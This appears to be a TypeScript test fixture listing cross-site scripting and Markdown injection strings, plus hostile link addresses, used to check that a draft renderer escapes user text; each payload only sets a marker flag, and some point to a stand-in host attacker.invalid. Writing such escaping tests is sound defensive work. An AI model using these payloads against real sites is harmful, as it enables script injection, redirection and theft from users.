/**
 * Text that would act if it were not escaped: out of an element, an attribute, a script, a style, a
 * comment, a URL, Markdown. Each sets `window.attacked` if it runs.
 */
export const attackStrings: readonly string[] = [
  '<script>window.attacked=1</script>',
  '</title><script>window.attacked=1</script>',
  '</style><script>window.attacked=1</script>',
  '</script><script>window.attacked=1</script>',
  '--><script>window.attacked=1</script><!--',
  '<img src=x onerror=window.attacked=1>',
  '"><img src=x onerror=window.attacked=1>',
  "'><img src=x onerror=window.attacked=1>",
  '" onmouseover="window.attacked=1" autofocus onfocus="window.attacked=1" x="',
  "' autofocus onfocus='window.attacked=1' x='",
  '` autofocus onfocus=window.attacked=1 x=`',
  '<svg onload=window.attacked=1>',
  '<svg><script>window.attacked=1</script></svg>',
  '<math><mtext><img src=x onerror=window.attacked=1></mtext></math>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<details open ontoggle=window.attacked=1>',
  '<body onload=window.attacked=1>',
  '<style>@import "javascript:window.attacked=1"; body{display:none}</style>',
  '<base href="https://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<form action="https://attacker.invalid/"><button autofocus>',
  '<a href="javascript:window.attacked=1" id="content">a</a>',
  '[a](javascript:window.attacked=1)',
  '[a](JaVaScRiPt&colon;window.attacked=1)',
  '[a](java\tscript:window.attacked=1)',
  '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)',
  '![a](https://attacker.invalid/a.png)',
  '![a](x" onerror="window.attacked=1)',
  '<javascript:window.attacked=1>',
  '[a]: javascript:window.attacked=1\n[a]',
  '```\n</code></pre><script>window.attacked=1</script>\n```',
  '&lt;script&gt;window.attacked=1&lt;/script&gt;',
  '\u003cscript\u003ewindow.attacked=1\u003c/script\u003e',
  '<scr\0ipt>window.attacked=1</scr\0ipt>'.replaceAll('\0', '\u200b'),
  '${window.attacked=1}{{constructor.constructor("window.attacked=1")()}}',
  '\u202e<script>window.attacked=1</script>',
]

/** Addresses that a draft may have, and that a link or a picture must not lead to. */
export const attackAddresses: readonly string[] = [
  'javascript:window.attacked=1',
  'javascript://school.example/%0Awindow.attacked=1',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==',
  "https://attacker.invalid/'onmouseover='window.attacked=1",
]
